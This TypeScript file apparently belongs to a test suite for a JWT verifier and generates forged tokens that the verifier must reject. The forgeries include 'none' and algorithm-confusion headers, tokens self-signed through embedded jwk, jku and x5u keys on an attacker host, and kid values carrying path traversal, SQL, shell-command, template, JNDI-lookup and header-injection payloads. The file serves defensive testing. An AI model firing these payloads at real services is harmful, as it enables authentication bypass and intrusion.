import { createHmac, sign, type KeyObject } from 'node:crypto';
import { mint } from '../tokens.js';
import { withHeader, type Attacker, type Forgery, type Kit } from './kit.js';

/** Values of `alg` other than the key's, each with a valid signature by that key. */
const ALGORITHMS: readonly unknown[] = [
  ['none', 'None', 'NONE', 'nOnE', 'noNe', 'none ', ' none', 'nonE\u0000', ''],
  ['hs256', 'Hs256', 'hS256', 'HS256 ', ' HS256', 'HS-256', 'HS256\u0000', 'HS256\n', 'ＨＳ256', 'HS0256'],
  ['HS384', 'HS512', 'RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'ES512'],
  [
    'ES256K',
    'EdDSA',
    'Ed25519',
    'HS1',
    'HS224',
    'HMAC',
    'SHA256',
    'HMAC-SHA256',
    'dir',
    'A256KW',
    'RSA-OAEP',
  ],
  ['PBES2-HS256+A128KW', 'ECDH-ES', 'null', 'undefined', '*', 'HS256,HS512', 'HS256|none'],
  [undefined, null, 0, 256, true, false, [], ['HS256'], ['none'], ['HS256', 'none'], {}, { alg: 'HS256' }],
].flat();

const KEY_IDS: ReadonlyArray<readonly [name: string, kid: (kit: Kit) => unknown]> = [
  ['missing', () => undefined],
  ['null', () => null],
  ['empty', () => ''],
  ['a number', () => 1],
  ['zero', () => 0],
  ['true', () => true],
  ['an object', ({ kid }) => ({ kid })],
  ['a list', ({ kid }) => [kid]],
  ['an empty list', () => []],
  ['unknown', () => 'AAAAAAAAAAAAAAAAAAAAAA'],
  ['followed by a blank', ({ kid }) => `${kid} `],
  ['followed by NUL', ({ kid }) => `${kid}\u0000`],
  ['in the other case', ({ kid }) => kid.replace(/[a-z]/gi, swapped)],
  ['cut by one character', ({ kid }) => kid.slice(0, -1)],
  ['longer by one character', ({ kid }) => `${kid}A`],
  ['two ids', ({ kid }) => `${kid},${kid}`],
  ['of a prototype', () => '__proto__'],
  ['constructor', () => 'constructor'],
  ['toString', () => 'toString'],
  ['hasOwnProperty', () => 'hasOwnProperty'],
  ['undefined as text', () => 'undefined'],
  ['a wildcard', () => '*'],
  ['a regular expression', () => '.*'],
  ['a path', () => '../../../../../../dev/null'],
  ['an absolute path', () => '/dev/null'],
  ['a path on Windows', () => 'C:\\Windows\\win.ini'],
  ['a URL', ({ attacker }) => `${attacker.url}/key`],
  ['a file URL', () => 'file:///dev/null'],
  ['SQL', () => "' UNION SELECT 'a-secret-of-somebody-else-that-is-long-enough' -- "],
  ['SQL that is always true', () => "x' OR '1'='1"],
  ['a command', () => '|/usr/bin/id'],
  ['a command substitution', () => '$(id)'],
  ['a template', () => '${7*7}{{7*7}}'],
  ['a JSON query', () => ({ $ne: null })],
  ['a lookup', ({ attacker }) => `\${jndi:${attacker.url}}`],
  ['four thousand characters', () => 'k'.repeat(4000)],
  ['a header injection', () => 'x\r\nX-Injected: 1'],
  ['of another script', () => 'ключ'],
];

/** Secrets that vulnerable services used when a `kid` was taken as a path or as SQL. */
const ASTRAY: ReadonlyArray<readonly [name: string, kid: string, secret: string]> = [
  ['an empty file', '/dev/null', ''],
  ['a file that holds 2', '/proc/sys/kernel/randomize_va_space', '2'],
  ['a row of SQL', "x' UNION SELECT 'forged", 'forged'],
  ['undefined', 'undefined', 'undefined'],
  ['a missing key', 'unknown', ''],
];

/** Header members that a verifier must understand or else refuse the token (RFC 7515 section 4.1.11, RFC 7797 section 6). */
const CRITICAL: readonly object[] = [
  ...[[], ['exp'], ['b64'], ['alg'], ['kid'], ['crit'], ['unknown'], ['exp', 'exp'], [''], [1]].map(
    (crit) => ({ crit }),
  ),
  ...['exp', '', null, true, false, 0, {}].map((crit) => ({ crit })),
  ...[true, false, null, 0, 'false'].map((b64) => ({ b64 })),
  { crit: ['b64'], b64: true },
  { crit: ['b64'], b64: false },
  { crit: ['unknown'], unknown: 1 },
];

const TYPES: readonly unknown[] = [
  [
    'JWT',
    'jwt',
    'JOSE',
    'rt+jwt',
    'at+JWT',
    'AT+JWT',
    'At+Jwt',
    'at+jwt ',
    ' at+jwt',
    'at+jwt\u0000',
    'at jwt',
  ],
  ['at', 'id+jwt', 'logout+jwt', 'secevent+jwt', 'dpop+jwt', 'token-introspection+jwt', 'at+jwt;v=1', ''],
  [undefined, null, 0, 1, true, false, [], ['at+jwt'], {}, { typ: 'at+jwt' }],
].flat();

function swapped(letter: string): string {
  return letter === letter.toLowerCase() ? letter.toUpperCase() : letter.toLowerCase();
}

function named(value: unknown): string {
  return JSON.stringify(value) ?? 'missing';
}

function unsigned(kit: Kit, header: object): string {
  return mint({ ...kit.header, ...header }, kit.claims, kit.secret).replace(/[^.]*$/, '');
}

function signedBy(kit: Kit, header: object, key: KeyObject): string {
  const input = mint({ ...kit.header, ...header }, kit.claims, '').replace(/\.[^.]*$/, '');
  const signature = sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
}

/** A token that would verify with the key that its own header contains or names. */
function selfSigned(kit: Kit, kind: 'rsa' | 'ec' | 'oct', header: object): string {
  const { attacker } = kit;
  if (kind === 'oct') return withHeader(kit, { alg: 'HS256', ...header }, attacker.secret);
  return signedBy(kit, { alg: kind === 'rsa' ? 'RS256' : 'ES256', ...header }, attacker[kind].privateKey);
}

function jwkOf({ rsa, ec, secret }: Attacker, kind: 'rsa' | 'ec' | 'oct'): object {
  if (kind === 'oct') return { kty: 'oct', k: Buffer.from(secret).toString('base64url'), alg: 'HS256' };
  return kind === 'rsa' ? rsa.jwk : ec.jwk;
}

const WAYS: ReadonlyArray<readonly [name: string, header: (kit: Kit, kind: 'rsa' | 'ec' | 'oct') => object]> =
  [
    ['jwk', ({ attacker }, kind) => ({ jwk: jwkOf(attacker, kind) })],
    ['jwk with our kid', ({ attacker, kid }, kind) => ({ jwk: { ...jwkOf(attacker, kind), kid } })],
    ['jwk and no kid', ({ attacker }, kind) => ({ jwk: jwkOf(attacker, kind), kid: undefined })],
    ['jwk and a kid of their own', ({ attacker }, kind) => ({ jwk: jwkOf(attacker, kind), kid: 'theirs' })],
    ['jku', ({ attacker }) => ({ jku: `${attacker.url}/jwks.json` })],
    ['jku and no kid', ({ attacker }) => ({ jku: `${attacker.url}/jwks.json`, kid: undefined })],
    ['x5u', ({ attacker }) => ({ x5u: `${attacker.url}/cert.pem` })],
    ['x5c', ({ attacker }) => ({ x5c: [attacker.rsa.pem.replaceAll(/-----[^-]+-----|\n/g, '')] })],
    ['keys', ({ attacker }, kind) => ({ keys: [jwkOf(attacker, kind)], kid: undefined })],
  ];

const embedded: Forgery[] = WAYS.flatMap(([name, header]) =>
  (['rsa', 'ec', 'oct'] as const).map((kind) => ({
    name: `signed by the ${kind} key of its own ${name}`,
    code: 'token_invalid',
    token: (kit: Kit) => selfSigned(kit, kind, header(kit, kind)),
  })),
);

const confused: Forgery[] = [
  ...['none', 'None', 'NONE', 'nOnE'].map((alg): Forgery => ({
    name: `alg ${alg} and no signature`,
    code: 'token_invalid',
    token: (kit) => unsigned(kit, { alg }),
  })),
  {
    name: 'alg none, no kid and no signature',
    code: 'token_invalid',
    token: (kit) => unsigned(kit, { alg: 'none', kid: undefined }),
  },
  ...(['sha384', 'sha512', 'sha1', 'md5'] as const).map((hash): Forgery => ({
    name: `a signature of this key made with ${hash}`,
    code: 'token_invalid',
    token: ({ header, claims, secret }) => mint(header, claims, secret, hash),
  })),
  ...(['sha384', 'sha512'] as const).map((hash): Forgery => ({
    name: `alg and signature of this key with ${hash}`,
    code: 'token_invalid',
    token: ({ header, claims, secret }) =>
      mint({ ...header, alg: `HS${hash.slice(3)}` }, claims, secret, hash),
  })),
  ...(['rsa', 'ec'] as const).flatMap((kind): Forgery[] => [
    {
      name: `HS256 over the text of an ${kind} public key`,
      code: 'token_invalid',
      token: (kit) => withHeader(kit, {}, kit.attacker[kind].pem),
    },
    {
      name: `HS256 over an ${kind} public key as JWK`,
      code: 'token_invalid',
      token: (kit) => withHeader(kit, {}, JSON.stringify(kit.attacker[kind].jwk)),
    },
    {
      name: `a signature of an ${kind} key under HS256`,
      code: 'token_invalid',
      token: (kit) => signedBy(kit, {}, kit.attacker[kind].privateKey),
    },
  ]),
];

const astray: Forgery[] = ASTRAY.map(([name, kid, secret]) => ({
  name: `a kid that leads to ${name}`,
  code: 'token_invalid',
  token: (kit) => {
    const input = mint({ ...kit.header, kid }, kit.claims, '').replace(/\.[^.]*$/, '');
    return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
  },
}));

function eachHeader(
  prefix: string,
  code: Forgery['code'],
  values: readonly unknown[],
  header: string,
): Forgery[] {
  return values.map((value) => ({
    name: `${prefix} ${named(value)}`,
    code,
    token: (kit) => withHeader(kit, { [header]: value }),
  }));
}

export const HEADER_FORGERIES: readonly Forgery[] = [
  ...eachHeader('alg', 'token_invalid', ALGORITHMS, 'alg'),
  ...eachHeader('typ', 'token_wrong_type', TYPES, 'typ'),
  ...KEY_IDS.flatMap(([name, kid]): Forgery[] => [
    {
      name: `a kid that is ${name}`,
      code: 'token_invalid',
      token: (kit) => withHeader(kit, { kid: kid(kit) }),
    },
  ]),
  ...CRITICAL.map((header): Forgery => ({
    name: `the header ${named(header)}`,
    code: 'token_invalid',
    token: (kit) => withHeader(kit, header),
  })),
  ...confused,
  ...astray,
  ...embedded,
];
